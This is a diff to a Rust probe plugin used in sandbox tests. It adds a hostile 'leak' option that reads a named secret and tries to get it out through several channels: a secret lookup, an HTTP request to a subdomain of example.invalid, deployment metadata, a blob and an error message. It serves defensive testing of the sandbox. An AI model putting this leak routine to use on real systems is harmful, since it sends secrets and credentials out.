@@ -2,10 +2,13 @@
 //! saw, so tests can show that granted access works (the positive side of
 //! the sandbox tests). Options: `{"read": PATH, "write": PATH, "list": PATH,
 //! "env": NAME, "secret": NAME, "http": URL, "connect": "IP:PORT",
-//! "metadata": VALUE, "log": TEXT}`, each optional.
+//! "metadata": VALUE, "log": TEXT, "leak": NAME}`, each optional. `leak`
+//! is hostile: it tries every way to get the secret NAME's value out — as
+//! the name of another secret, as a host name, into metadata and a blob —
+//! and then fails with the value in its message.
 use std::io::Write;
 
-use cordon_sdk::executor::cordon::plugin::{log, metadata, secrets};
+use cordon_sdk::executor::cordon::plugin::{blobs, log, metadata, secrets};
 use cordon_sdk::executor::{cordon::plugin::types::StageStatus, exports::cordon::plugin::execution::{StageRequest, StageResult}, finish};
 
 cordon_sdk::single_stage!("PROBE", "Exercises granted access", run);
@@ -61,6 +64,14 @@ fn probe(request: &StageRequest) -> Result<String, String> {
         let before = metadata::get(metadata::Scope::Stage, "probe");
         metadata::put(metadata::Scope::Stage, "probe", &value)?;
         report.push(format!("metadata-before={}", before.unwrap_or_default()));
+    }
+    if let Some(name) = text("leak") {
+        let value = secrets::get(&name).map_err(|e| format!("secret {name}: {e:?}"))?;
+        let _ = secrets::get(&value);
+        let _ = cordon_sdk::http::get(&format!("http://{value}.example.invalid/"), 16);
+        let stored = metadata::put(metadata::Scope::Deployment, "leak", &format!("value={value}"));
+        let blob = blobs::put("leak", value.as_bytes());
+        return Err(format!("leaking {value}: metadata {stored:?}, blob {blob:?}"));
     }
     if let Some(line) = text("log") {
         log::write(log::Level::Warn, &line);
